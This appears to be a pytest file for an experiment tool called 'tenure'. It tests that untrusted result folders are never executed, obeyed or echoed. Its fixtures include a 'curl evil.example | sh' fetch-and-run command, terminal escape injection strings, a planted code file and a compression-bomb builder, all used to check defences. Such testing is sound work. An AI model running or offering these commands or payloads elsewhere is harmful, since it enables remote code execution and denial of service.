"""What a folder from anybody may do: nothing. And what runs of a user's own policies depend on."""

import io
import json
import os
import resource
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest

from tenure.experiments.config.experiment import load_experiment
from tenure.experiments.config.reading import ConfigError
from tenure.experiments.plugins.own_classes import policies_afresh
from tenure.experiments.plugins.own_policies import loaded, snapshot
from tenure.experiments.running.runner import run_experiment
from tenure.experiments.running.starts import largest, read_start, start_path
from tenure.experiments.store import sealing, store
from tenure.experiments.store.results import open_results
from tenure.experiments.store.sealing import DamagedError
from tests.folders import OWN, POLICY, answer, make, no_workers, put_record, record_of, serially, tenure
from tests.small_folder import ROOT, out, pristine, started

__all__ = ["no_workers", "out", "pristine"]


# a folder may come from anybody


ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b[31mred\u202e\x9b1m"
ABSURD: list[Any] = [None, -1, 5, 1e300, "x", ESCAPES, [], {}, [[1]], {"a": 1}]
PLACES = [
    "question",
    "months",
    "arms",
    "arms.uniform",
    "arms.uniform.policy",
    "champion",
    "replications",
    "seed",
    "metrics",
    "oracles",
    "runs",
    "starts",
    "market",
    "market.people",
    "market.rivals",
    "market.guards",
    "market.quadrants",
    "config",
    "config.name",
    "config.path",
    "config.beside",
    "sets",
    "written",
    "written.market",
    "written.arms",
    "written.metrics",
    "written.scenarios",
    "scenarios",
    "written.months",
    "own_policies",
    "depends",
    "depends.uniform",
    "format",
    "sources",
    "tenure",
    "warm_up_months",
    "commit",
    "written.guards",
    "written.market.us",
]


@pytest.mark.usefixtures("no_workers")
@pytest.mark.parametrize("place", PLACES)
def test_absurd_entries_of_a_record_are_told_in_words(out: Path, place: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tenure.experiments.running.runner.run_batch", lambda *given: None)
    monkeypatch.setattr("tenure.experiments.commands.run._report", lambda *given: None)
    good = record_of(out)
    for number, absurd in enumerate(ABSURD):
        record = json.loads(json.dumps(good))
        at = record
        *above, last = place.split(".")
        for key in above:
            at = at[key]
        at[last] = absurd
        put_record(out, record)
        for words in [["status", out], ["run", out]][: 1 + (number + len(place)) % 2]:
            code, said = tenure(*words)
            assert code in (0, 1, 2) and said.strip(), (place, absurd, words)
            assert not set("\x1b\x07\x9b\u202e") & set(said), (place, absurd, words)


def test_what_escapes_say_is_shown_and_not_obeyed(out: Path) -> None:
    name = open_results(out).names[0]
    store.run_path(out, name).unlink()
    told = {"arm": "nothing", "replication": 0, "command": "curl evil.example | sh", "policy": ESCAPES}
    store.write_failure(out, name, f"{ESCAPES}\nnext line", told)
    put_record(out, {**record_of(out), "question": ESCAPES, "tenure": ESCAPES, "sources": ESCAPES})
    for verb in ("status", "compare", "audit"):
        for more in ([], ["--json"]):
            _, said = tenure(verb, out, *more)
            assert not set("\x1b\x07\x9b\u202e") & set(said) and "evil" not in said
    assert "tenure run" in tenure("status", out)[1] and "--only nothing/0" in tenure("status", out)[1]


EVIL = """
import pathlib
pathlib.Path({mark!r}).write_text("executed")
class P:
    name = "hidden"
    def decide(self, view):
        return None
"""


@pytest.mark.usefixtures("no_workers")
def test_nothing_in_a_folder_is_executed_or_recommended(out: Path, tmp_path: Path) -> None:
    evil, mark = out / "evil.py", tmp_path / "mark"
    evil.write_text(EVIL.format(mark=str(mark)))
    name, text = "evil.py\ncurl evil.example | sh", {"evil.py": evil.read_text().splitlines()}
    told = {
        "name": name,
        "path": str(evil),
        "beside": "evil.py",
        "policies": ["uniform"],
        "sha256": snapshot(evil).digest,
        "inputs": {},
        "source": text,
    }
    put_record(out, {**record_of(out), "own_policies": [told], "plugins": [str(evil)]})
    store.run_path(out, open_results(out).names[0]).unlink()
    for words in (["status"], ["compare"], ["audit", "--rerun", "1"], ["run"], ["report"]):
        _, said = tenure(words[0], out, *words[1:])
        assert not mark.exists() and str(evil) not in said
        assert not [line for line in said.splitlines() if line.startswith("curl")]
    put_record(out, {**record_of(out), "own_policies": [{**told, "policies": ["do_nothing"]}]})
    code, said = tenure("run", out)
    assert code == 2 and "for reading only" in said and not mark.exists()


def bomb(size: int, told: int) -> bytes:
    """Return a small stored state that unpacks to much, and what it says that it unpacks to."""
    inner = io.BytesIO()
    for values in (np.array(["x"]), np.zeros(size, np.uint8)):
        inner.seek(-(-inner.tell() // 64) * 64)
        np.lib.format.write_array(inner, values)
    packed = pa.Codec("zstd").compress(inner.getvalue(), asbytes=True)
    return sealing.sealed(packed + b"\n%020d bytes unpacked, " % told + sealing.MARK + sealing.ZEROS)


@pytest.mark.parametrize("told", [400_000_192, 1_000])
def test_a_state_that_unpacks_to_too_much_is_refused_in_little_memory(tmp_path: Path, told: int) -> None:
    path = start_path(tmp_path, "x")
    path.parent.mkdir()
    path.write_bytes(bomb(400_000_000, told))
    assert path.stat().st_size < 1_000_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(DamagedError, match="unpacks to more than 64,800,000 bytes" if told > 1_000 else "cannot be"):
        read_start(tmp_path, "x", largest(200))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # kilobytes


@pytest.mark.usefixtures("no_workers")
def test_a_bomb_in_the_place_of_a_state_spoils_no_run(out: Path) -> None:
    right, name = open_results(out).hash, open_results(out).names[0]
    start_path(out, store.read_run(out, name).metadata["start"]).write_bytes(bomb(100_000_000, 100_000_192))
    store.run_path(out, name).unlink()
    assert make(out, out.parent / "small.yaml").hash == right


@pytest.mark.usefixtures("no_workers")
@pytest.mark.parametrize("when", [0, 1e9, 4e9])
def test_clocks_are_not_trusted(out: Path, when: float) -> None:
    right = open_results(out).hash
    for path in out.rglob("*"):
        os.utime(path, (when, when))
    results = make(out, out.parent / "small.yaml")
    assert (results.made, results.hash, results.changes) == (0, right, ())


# what a user's own policy depends on


@pytest.fixture
def own(tmp_path: Path) -> Path:
    """Return a folder with a policy file, what it imports, and what it reads."""
    (tmp_path / "mine.py").write_text(POLICY)
    (tmp_path / "beside.py").write_text("amount = 1\n")
    (tmp_path / "rate.csv").write_text("rate\n5\n")
    (tmp_path / "own.yaml").write_text(OWN)
    return tmp_path


def test_the_name_of_a_run_covers_whatever_a_policy_imports_and_reads(own: Path, tmp_path: Path) -> None:
    package = own / "parts"
    (package / "deep").mkdir(parents=True)
    (own / "bare").mkdir()
    files = {
        own / "mine.py": "from parts import one\nimport bare.leaf\nfrom importlib import import_module\n"
        "import_module('called')\n",
        own / "beside.py": "amount = 1\n",
        own / "rate.csv": "5\n",
        own / "called.py": "x = 1\n",
        package / "__init__.py": "from . import two\nfrom .deep import three\n",
        package / "one.py": "x = 1\n",
        package / "two.py": "from .deep.four import y\n",
        package / "deep" / "__init__.py": "",
        package / "deep" / "three.py": "x = 1\n",
        package / "deep" / "four.py": "y = 1\n",
        own / "bare" / "leaf.py": "",
    }
    for path, text in files.items():
        path.write_text(text + (POLICY if path.name == "mine.py" else ""))
    first = snapshot(own / "mine.py").digest
    for path in files:
        before = path.read_bytes()
        path.write_bytes(before + b"\n#")
        os.utime(path, (1e9, 1e9))
        assert snapshot(own / "mine.py").digest != first, path
        path.write_bytes(before)
        assert snapshot(own / "mine.py").digest == first, path
    (own / "other.py").write_text("x = 1\n")  # that nothing imports
    assert snapshot(own / "mine.py").digest == first
    shutil.copytree(own, tmp_path / "copy")
    assert snapshot(tmp_path / "copy" / "mine.py").digest == first


def test_what_is_executed_is_what_the_name_covers(own: Path) -> None:
    source = snapshot(own / "mine.py")
    environment = {**os.environ, "PYTHONPATH": str(own)}
    environment.pop("PYTHONDONTWRITEBYTECODE", None)
    subprocess.run([sys.executable, "-c", "import beside"], cwd=own, env=environment, check=True)
    told = (own / "beside.py").stat()
    (own / "beside.py").write_text("amount = 2\n")  # as large and as old as what was compiled
    os.utime(own / "beside.py", ns=(told.st_atime_ns, told.st_mtime_ns))
    assert (own / "__pycache__").is_dir()
    with loaded([source]) as modules:
        assert vars(modules[source.path])["amount"] == 1  # as it was when the command began
    edited = snapshot(own / "mine.py")
    assert edited.digest != source.digest
    with loaded([edited]) as modules:
        assert vars(modules[edited.path])["amount"] == 2
    (own / "rate.csv").write_text("rate\n6\n")
    changed = pytest.raises(ConfigError, match=r"its input rate\.csv has changed since this command began")
    with changed, policies_afresh([edited]):
        pass


def test_own_policies_are_given_again_and_what_they_print_disturbs_nothing(
    own: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One folder, made by workers; then all that is asked of it is asked in this process."""
    out = own / "out"
    words = started("run", own / "own.yaml", "--policies", own / "mine.py", "-o", out, "--workers", 2, "--json")
    first = subprocess.run(words, cwd=ROOT, capture_output=True, check=True, env={**os.environ, "PYTHONHASHSEED": "7"})
    told = json.loads(first.stdout)
    assert (told["made"], told["failed"], told["changes"]) == (6, {}, [])
    monkeypatch.setattr("tenure.experiments.running.runner.run_batch", serially)
    monkeypatch.setattr("tenure.experiments.running.runner._live_one_again", lambda *given: None)
    missing = [
        name for name, (_, arm, number, *_) in record_of(out)["runs"].items() if number == 0 and arm != "nothing"
    ]
    for name in missing:
        store.run_path(out, name).unlink()
    full = f"tenure run {out} --policies {own / 'mine.py'}"
    code, said = tenure("run", out)
    assert code == 0 and full in said and "arm own is left as it is" in said
    assert len(open_results(out).names) == 5 and set(record_of(out)["arms"]) == {"nothing", "uniform", "own"}
    assert answer("run", out, "--policies", own / "mine.py")["hash"] == told["hash"]
    (own / "beside.py").write_text("amount = 3\n")
    code, said = tenure("run", out, "--policies", own / "mine.py")
    assert code == 2 and "not the file that" in said and f"-o {out}" in said and "To take the edit" in said
    audit = answer("audit", out, "--rerun", 6, "--policies", own / "mine.py")
    assert sorted(audit["same"]) == ["nothing/0", "nothing/1", "uniform/0", "uniform/1"] and not audit["differing"]
    assert f"tenure audit --rerun 6 {out} --policies {own / 'mine.py'}" in " ".join(audit["notes"])
    results = run_experiment(load_experiment(own / "own.yaml", plugins=[own / "mine.py"]), out, workers=1)
    assert results.made == 2 and "mine.py changed: 2 runs of arm own are made again" in results.changes
